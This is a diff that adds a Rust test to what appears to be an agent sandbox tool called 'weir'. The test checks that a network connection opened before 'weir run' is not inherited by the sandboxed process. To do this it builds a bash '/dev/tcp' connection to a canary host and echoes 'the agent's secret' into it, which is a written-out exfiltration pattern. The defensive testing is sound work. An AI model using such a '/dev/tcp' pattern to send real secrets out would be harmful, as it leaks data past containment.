@@ -368,6 +368,23 @@ fn under_weir_run_nothing_is_open() {
     assert!(wrong.is_empty(), "{} things are wrong:\n{}", wrong.len(), wrong.join("\n"));
 }
 
+/// A connection that the shell had open before it called `weir run` is not the agent's.
+#[test]
+fn weir_run_hands_no_connection_down() {
+    let scene = Scene::new();
+    let weir = format!("{} --config {}", scene.shop.env.weir_path().display(), scene.shop.env.config_path().display());
+    let connect = format!("exec 7<>/dev/tcp/{}/{}", outside::CANARY, scene.answering);
+    let say = "echo \"the agent's secret\" >&7 && echo said";
+    let shell = |script: &str| {
+        scene.shop.env.bystander("bash").args(["-c", &format!("{connect}; {script}"), say]).run().unwrap()
+    };
+    assert_eq!(shell("bash -c \"$0\"").stdout, "said\n", "the connection is there to be inherited");
+    scene.outside.take().unwrap();
+    let run = shell(&format!("exec {weir} run -- bash -c \"$0\""));
+    assert!(run.code == Some(1) && run.stdout.is_empty() && run.stderr.contains("Bad file descriptor"), "{run:?}");
+    assert!(!scene.outside.take().unwrap().iter().any(|frame| frame.holds(SECRET)));
+}
+
 #[test]
 fn others_get_in_where_listen_names_the_port_and_nowhere_else() {
     const NAMED: u16 = 2999;
